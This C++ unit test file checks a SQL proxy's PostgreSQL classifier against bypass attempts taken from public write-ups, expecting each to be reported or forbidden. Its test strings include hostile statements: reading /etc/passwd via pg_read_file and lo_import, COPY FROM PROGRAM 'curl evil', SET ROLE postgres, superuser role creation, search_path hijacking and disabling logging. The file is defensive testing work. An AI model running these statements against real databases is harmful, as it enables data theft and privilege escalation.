// Table-driven: statements taken from public write-ups of SQL-proxy / column-masking
// bypasses. Each row states what the classifier must report so a segment policy can
// deny it: the hidden relation with the right operation, the dangerous function, or a
// Forbidden/Unknown class. Rendering: see pg_test_support.hpp.
#include <gtest/gtest.h>

#include "tests/unit/sql/pg_test_support.hpp"

namespace segproxy::authz::sql::test {
namespace {

struct Case {
  const char* sql;
  const char* expected;
};

void PrintTo(const Case& c, std::ostream* os) { *os << c.sql; }

class BypassAttempt : public ::testing::TestWithParam<Case> {};

TEST_P(BypassAttempt, HiddenAccessIsReported) {
  EXPECT_EQ(describe(GetParam().sql), GetParam().expected) << GetParam().sql;
}

const Case kBypassCases[] = {
    // Relations hidden in subqueries, CTEs, set operations, LATERAL, scalar subqueries.
    {"SELECT * FROM (SELECT * FROM customers_pii) x", "Dml Select:~public.customers_pii"},
    {"WITH t AS (SELECT * FROM customers_pii) SELECT * FROM t", "Dml Select:~public.customers_pii"},
    {"WITH customers_pii AS (SELECT * FROM customers_pii) SELECT * FROM customers_pii",
     "Dml Select:~public.customers_pii"},
    {"WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "Dml"},
    {"WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", "Dml Select:~public.a"},
    {"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
     "Dml"},
    {"WITH RECURSIVE r(id) AS (SELECT id FROM customers_pii UNION SELECT c.id FROM customers_pii c JOIN r ON true) SELECT * FROM r",
     "Dml Select:~public.customers_pii"},
    {"WITH t AS (SELECT 1) SELECT * FROM public.t", "Dml Select:public.t"},
    {"SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) s, t", "Dml Select:~public.t"},
    {"SELECT (SELECT secret FROM customers_pii LIMIT 1)", "Dml Select:~public.customers_pii"},
    {"SELECT * FROM orders WHERE id IN (SELECT id FROM customers_pii)",
     "Dml Select:~public.customers_pii Select:~public.orders"},
    {"SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM customers_pii c WHERE c.id = orders.cid)",
     "Dml Select:~public.customers_pii Select:~public.orders"},
    {"SELECT count(*) FROM orders GROUP BY 1 HAVING count(*) > (SELECT count(*) FROM customers_pii)",
     "Dml Select:~public.customers_pii Select:~public.orders fn:count"},
    {"SELECT * FROM generate_series(1,2), LATERAL (SELECT * FROM customers_pii) s",
     "Dml Select:~public.customers_pii fn:generate_series"},
    {"SELECT 1 UNION SELECT secret FROM customers_pii", "Dml Select:~public.customers_pii"},
    {"SELECT id FROM orders INTERSECT SELECT id FROM customers_pii EXCEPT SELECT id FROM refunds",
     "Dml Select:~public.customers_pii Select:~public.orders Select:~public.refunds"},
    {"SELECT * FROM orders o JOIN customers_pii c ON c.id = o.cid",
     "Dml Select:~public.customers_pii Select:~public.orders"},
    {"SELECT * FROM orders o LEFT JOIN LATERAL (SELECT * FROM customers_pii WHERE id = o.cid) c ON true",
     "Dml Select:~public.customers_pii Select:~public.orders"},
    {"SELECT ARRAY(SELECT secret FROM customers_pii)", "Dml Select:~public.customers_pii"},
    {"SELECT CASE WHEN true THEN (SELECT 1 FROM customers_pii) END", "Dml Select:~public.customers_pii"},
    {"SELECT * FROM orders ORDER BY (SELECT max(id) FROM customers_pii)",
     "Dml Select:~public.customers_pii Select:~public.orders fn:max"},
    {"SELECT row_number() OVER (ORDER BY (SELECT 1 FROM customers_pii)) FROM orders",
     "Dml Select:~public.customers_pii Select:~public.orders fn:row_number"},
    // Names: quoting, case folding, unicode escapes, ONLY / inheritance star.
    {"select * from \"customers_pii\"", "Dml Select:~public.customers_pii"},
    {"select * from public.\"CUSTOMERS_PII\"", "Dml Select:public.CUSTOMERS_PII"},
    {"select * from PUBLIC.Customers_PII", "Dml Select:public.customers_pii"},
    {"select * from U&\"\\0063ustomers_pii\"", "Dml Select:~public.customers_pii"},
    {"SELECT * FROM ONLY customers_pii", "Dml Select:~public.customers_pii"},
    {"SELECT * FROM customers_pii*", "Dml Select:~public.customers_pii"},
    {"TABLE customers_pii", "Dml Select:~public.customers_pii"},
    {"SELECT * FROM customers_pii TABLESAMPLE SYSTEM (10)",
     "Dml Select:~public.customers_pii fn:system"},
    {"/* */ DELETE FROM orders", "Dml Delete:~public.orders"},
    {"-- comment\nDELETE FROM orders", "Dml Delete:~public.orders"},
    // Functions that run SQL text or touch server files: reported, set_config forbidden.
    {"SELECT query_to_xml('select * from customers_pii', true, true, '')", "Dml fn:query_to_xml"},
    {"SELECT table_to_xml('customers_pii', true, true, '')", "Dml fn:table_to_xml"},
    {"SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", "Dml fn:dblink"},
    {"SELECT dblink('...', '...')", "Dml fn:dblink"},
    {"SELECT pg_read_file('/etc/passwd')", "Dml fn:pg_read_file"},
    {"SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", "Dml fn:pg_catalog.pg_read_binary_file"},
    {"SELECT lo_import('/etc/passwd')", "Dml fn:lo_import"},
    {"SELECT * FROM pg_ls_dir('.')", "Dml fn:pg_ls_dir"},
    {"SELECT set_config('search_path','evil',false)", "Forbidden fn:set_config"},
    {"SELECT pg_catalog.set_config('role','postgres',false)", "Forbidden fn:pg_catalog.set_config"},
    {"SELECT * FROM set_config('search_path','evil',false)", "Forbidden fn:set_config"},
    {"UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'",
     "Forbidden Select:~pg_catalog.pg_settings Select:~public.pg_settings Update:~pg_catalog.pg_settings Update:~public.pg_settings"},
    {"SELECT * FROM pg_authid", "Dml Select:~pg_catalog.pg_authid Select:~public.pg_authid"},
    {"SELECT 1 FROM orders WHERE id = ANY (SELECT (query_to_xml('select 1', true, true, ''))::text::int)",
     "Dml Select:~public.orders fn:query_to_xml"},
    // COPY to/from server files and programs.
    {"COPY customers_pii TO '/tmp/x'", "Forbidden CopyTo:~public.customers_pii"},
    {"COPY (SELECT 1) TO PROGRAM 'id'", "Forbidden"},
    {"COPY customers_pii FROM PROGRAM 'curl evil'", "Forbidden CopyFrom:~public.customers_pii"},
    {"COPY customers_pii FROM '/etc/passwd'", "Forbidden CopyFrom:~public.customers_pii"},
    {"COPY (SELECT * FROM customers_pii) TO STDOUT",
     "Dml CopyTo:~public.customers_pii Select:~public.customers_pii"},
    // Session identity and name resolution.
    {"SET search_path = evil, public", "Forbidden"},
    {"SET LOCAL search_path TO evil", "Forbidden"},
    {"SET SCHEMA 'evil'", "Forbidden"},
    // RESET search_path returns to the value the session started with (clients cannot
    // set search_path at startup): SessionSafe since issue 12 (pg_dump -t sends it).
    {"RESET search_path", "SessionSafe"},
    {"SET search_path = 'evil'", "Forbidden"},
    {"SET ROLE postgres", "Forbidden"},
    {"RESET ROLE", "Forbidden"},
    {"SET SESSION AUTHORIZATION postgres", "Forbidden"},
    {"RESET SESSION AUTHORIZATION", "Forbidden"},
    // Lexing settings are followed since issue 12 item 2.2 (pg_lexing_test.cpp); an
    // encoding the classifier cannot read stays refused.
    {"SET standard_conforming_strings = off", "SessionSafe"},
    {"SET NAMES 'SJIS'", "SessionSafe"},
    {"SET client_encoding = 'BIG5'", "SessionSafe"},
    {"SET client_encoding = 'MULE_INTERNAL'", "Forbidden"},
    {"SET \"Search_Path\" = evil", "Forbidden"},
    {"SET myapp.tenant = '1'", "Forbidden"},
    {"SET work_mem = '1GB'", "Forbidden"},
    {"ALTER SYSTEM SET log_statement = 'none'", "Forbidden"},
    {"ALTER ROLE me SET search_path = evil", "Forbidden"},
    {"ALTER DATABASE db SET search_path = evil", "Forbidden"},
    {"LOAD 'x'", "Forbidden"},
    {"CREATE ROLE evil SUPERUSER", "Forbidden"},
    {"ALTER USER me WITH SUPERUSER", "Forbidden"},
    {"GRANT SELECT ON customers_pii TO public", "Forbidden Alter:~public.customers_pii"},
    {"REVOKE ALL ON orders FROM me", "Forbidden Alter:~public.orders"},
    {"GRANT postgres TO me", "Forbidden"},
    {"CREATE SCHEMA s GRANT SELECT ON t TO me", "Forbidden Alter:~public.t"},
    // Procedural code and wrappers: the inner statement counts.
    {"DO $$ BEGIN PERFORM * FROM customers_pii; END $$", "AnonymousCode"},  // issue 12: not procedural
    {"CALL archive_orders(1)", "Procedural fn:archive_orders"},
    {"PREPARE p AS DELETE FROM orders", "Prepare Delete:~public.orders"},
    {"PREPARE p AS SELECT set_config('role', 'x', false)", "Forbidden fn:set_config"},
    {"EXPLAIN ANALYZE DELETE FROM orders", "Explain Delete:~public.orders"},
    {"EXPLAIN (ANALYZE, FORMAT JSON) UPDATE orders SET x = 1",
     "Explain Update:~public.orders"},
    {"EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM customers_pii",
     "Ddl Insert:~public.x Select:~public.customers_pii"},
    {"EXPLAIN EXECUTE p(1)", "Prepare"},
    {"DECLARE c CURSOR FOR SELECT * FROM customers_pii", "Cursor Select:~public.customers_pii"},
    {"CREATE TABLE x AS SELECT * FROM customers_pii", "Ddl Insert:~public.x Select:~public.customers_pii"},
    {"CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers_pii",
     "Ddl Insert:~public.mv Select:~public.customers_pii"},
    {"SELECT * INTO x FROM customers_pii", "Ddl Insert:~public.x Select:~public.customers_pii"},
    {"SELECT * INTO TEMP x FROM customers_pii UNION SELECT * FROM orders",
     "Ddl Insert:~public.x Select:~public.customers_pii Select:~public.orders"},
    {"CREATE VIEW v AS SELECT * FROM customers_pii", "Ddl Alter:~public.v Select:~public.customers_pii"},
    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END",
     "Ddl Delete:~public.orders fn:f"},
    {"CREATE FUNCTION f() RETURNS int AS $$ select 1 $$ LANGUAGE sql SECURITY DEFINER", "Ddl fn:f"},
    // Data-modifying CTEs and writes that read.
    {"WITH d AS (DELETE FROM orders RETURNING *) SELECT 1", "Dml Delete:~public.orders Select:~public.orders"},
    {"WITH d AS (DELETE FROM orders) SELECT 1", "Dml Delete:~public.orders"},
    {"WITH u AS (UPDATE orders SET x = 1 RETURNING id) SELECT * FROM u",
     "Dml Select:~public.orders Update:~public.orders"},
    {"WITH i AS (INSERT INTO audit VALUES (1)) DELETE FROM orders",
     "Dml Delete:~public.orders Insert:~public.audit"},
    {"INSERT INTO audit SELECT * FROM customers_pii", "Dml Insert:~public.audit Select:~public.customers_pii"},
    {"WITH orders AS (SELECT 1) INSERT INTO orders VALUES (1)", "Dml Insert:~public.orders"},
    {"WITH orders AS (SELECT 1) DELETE FROM orders", "Dml Delete:~public.orders"},
    {"INSERT INTO orders VALUES (1) RETURNING *", "Dml Insert:~public.orders Select:~public.orders"},
    {"INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET x = excluded.x",
     "Dml Insert:~public.orders Select:~public.orders Update:~public.orders"},
    {"UPDATE orders SET total = (SELECT max(x) FROM customers_pii)",
     // the column x might be the target's (correlated): the target counts as read
     "Dml Select:~public.customers_pii Select:~public.orders Update:~public.orders fn:max"},
    {"UPDATE orders o SET cid = c.id FROM customers_pii c WHERE c.email = o.email",
     "Dml Select:~public.customers_pii Select:~public.orders Update:~public.orders"},
    {"DELETE FROM orders USING customers_pii c WHERE c.id = orders.cid",
     "Dml Delete:~public.orders Select:~public.customers_pii Select:~public.orders"},
    {"MERGE INTO orders o USING customers_pii c ON o.cid = c.id WHEN MATCHED THEN DELETE "
     "WHEN NOT MATCHED THEN INSERT (cid) VALUES (c.id)",
     "Dml Delete:~public.orders Insert:~public.orders Select:~public.customers_pii Select:~public.orders"},
    {"WITH src AS (SELECT * FROM customers_pii) MERGE INTO orders o USING src ON o.cid = src.id "
     "WHEN MATCHED THEN UPDATE SET x = 1",
     "Dml Select:~public.customers_pii Select:~public.orders Update:~public.orders"},
    // Multi-statement strings: every statement is its own part.
    {"SELECT 1; DELETE FROM orders", "Dml ; Dml Delete:~public.orders"},
    {"SELECT 1;;SET ROLE postgres", "Dml ; Forbidden"},
    {"BEGIN; TRUNCATE orders, customers_pii; COMMIT",
     "Transaction ; Dml Truncate:~public.customers_pii Truncate:~public.orders ; Transaction"},
    // Any mode above ACCESS SHARE (the default is ACCESS EXCLUSIVE) is judged as an update.
    {"LOCK customers_pii", "Dml Update:~public.customers_pii"},
    {"LOCK TABLE orders, customers_pii IN ACCESS EXCLUSIVE MODE",
     "Dml Update:~public.customers_pii Update:~public.orders"},
    {"LOCK TABLE orders IN ACCESS SHARE MODE", "Dml Lock:~public.orders"},
    {"LOCK TABLE orders IN ROW SHARE MODE", "Dml Update:~public.orders"},
    {"SELECT * FROM customers_pii c FOR UPDATE OF c", "Dml Select:~public.customers_pii"},
    {"SELECT * FROM db.public.customers_pii", "Unknown"},
    {"SELECT 'a' FROM customers_pii WHERE $1 = 'x'", "Dml Select:~public.customers_pii"},
};

INSTANTIATE_TEST_SUITE_P(PgClassifier, BypassAttempt, ::testing::ValuesIn(kBypassCases));

}  // namespace
}  // namespace segproxy::authz::sql::test
